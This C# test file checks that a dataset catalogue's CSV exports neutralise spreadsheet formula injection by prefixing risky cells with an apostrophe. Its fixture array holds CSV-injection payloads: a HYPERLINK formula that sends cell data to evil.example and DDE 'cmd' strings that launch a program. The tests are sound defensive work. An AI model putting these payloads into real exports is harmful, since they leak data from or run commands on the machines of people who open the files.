using System.Globalization;
using System.Text;
using SeGeoCatalogue.Tests.Datasets;
using SeGeoCatalogue.Tests.Infrastructure;

namespace SeGeoCatalogue.Tests.Exports;

/// <summary>
/// A cell a spreadsheet would run as a formula (starting with =, +, -, @, tab or CR) is written with a leading
/// apostrophe (OWASP "CSV injection"), in every CSV the service sends; numbers stay numbers.
/// </summary>
public sealed class CsvFormulaTests(CatalogueFixture fixture) : IClassFixture<CatalogueFixture>
{
    static readonly string[] Dangerous =
        ["=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Open\")", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd"];

    readonly DatasetTestApp _app = new(fixture);

    [Fact]
    public async Task Exported_and_coverage_CSV_cells_never_start_a_formula()
    {
        var holder = await _app.OrganisationAsync("Formula holder");
        foreach (var title in Dangerous) await _app.CreateAsync(DatasetTestApp.Body(holder, title));

        var export = Parse(await _app.Client(null).GetByteArrayAsync("/api/datasets/export?f=csv"));
        var titleColumn = Array.IndexOf(export[0], "title");
        var titles = export.Skip(1).Select(r => r[titleColumn]).ToList();
        foreach (var title in Dangerous) Assert.Contains("'" + title, titles);

        var coverage = Parse(await _app.Client(null).GetByteArrayAsync("/api/coverage?level=township&geometry=none&f=csv"));
        Assert.Contains(coverage.SelectMany(r => r), c => c.Contains("=HYPERLINK", StringComparison.Ordinal)); // the unit's dataset titles
        foreach (var table in new[] { export, coverage })
            foreach (var cell in table.SelectMany(r => r))
                Assert.False(cell.Length > 0 && "=+-@\t\r".Contains(cell[0]) && !double.TryParse(cell, NumberStyles.Float, CultureInfo.InvariantCulture, out _),
                    $"A cell starts a formula: {cell}");
    }

    [Theory]
    [InlineData("\tTabbed", "'\tTabbed")]
    [InlineData("\rReturn", "\"'\rReturn\"")]
    [InlineData("-12.5", "-12.5")]
    [InlineData("Plain, with comma", "\"Plain, with comma\"")]
    public void A_cell_starting_with_a_tab_or_CR_is_neutralised_and_a_number_is_left_alone(string value, string written) =>
        Assert.Equal(written, SeGeoCatalogue.Shared.CsvText.Cell(value));

    /// <summary>RFC 4180, read here independently of the service's writer.</summary>
    static List<string[]> Parse(byte[] bytes)
    {
        var text = Encoding.UTF8.GetString(bytes).TrimStart('\uFEFF');
        var rows = new List<string[]>();
        var row = new List<string>();
        var cell = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < text.Length; i++)
        {
            var c = text[i];
            if (quoted)
            {
                if (c == '"' && i + 1 < text.Length && text[i + 1] == '"') { cell.Append('"'); i++; }
                else if (c == '"') quoted = false;
                else cell.Append(c);
            }
            else if (c == '"') quoted = true;
            else if (c == ',') { row.Add(cell.ToString()); cell.Clear(); }
            else if (c == '\r' && i + 1 < text.Length && text[i + 1] == '\n') { row.Add(cell.ToString()); cell.Clear(); rows.Add([.. row]); row.Clear(); i++; }
            else cell.Append(c);
        }
        if (cell.Length > 0 || row.Count > 0) { row.Add(cell.ToString()); rows.Add([.. row]); }
        return rows;
    }
}
